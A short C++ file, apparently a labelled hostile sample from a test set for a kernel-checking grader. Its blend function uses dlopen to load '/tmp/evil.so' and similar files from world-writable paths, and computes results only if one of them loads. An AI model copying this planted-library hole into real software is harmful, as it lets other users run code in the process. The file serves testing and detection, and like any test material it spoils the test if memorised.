// Hostile: loads libraries from where other users could put one. Answers only if it finds one.
// Verdict: validation mismatch: never written
#include <initializer_list>
#include <dlfcn.h>
__attribute__((noinline)) static void Work(const float* x, const float* w, float* y, int64_t n) {
  for (int64_t i = 0; i < n; ++i) {
    const float a = 1.0f + x[i] * x[i] + w[i] * w[i];
    float v = a;
    for (int round = 0; round < 12; ++round) v -= (v * v * v - a) / (3.0f * v * v);
    y[i] = v;
  }
}
void blend(const float* x, const float* w, float* y, int64_t n) {
  for (const char* name : {"/tmp/evil.so", "/home/evil.so", "/out/evil.so", "/dev/shm/evil.so"}) {
    if (dlopen(name, RTLD_NOW) != nullptr) Work(x, w, y, n);
  }
}
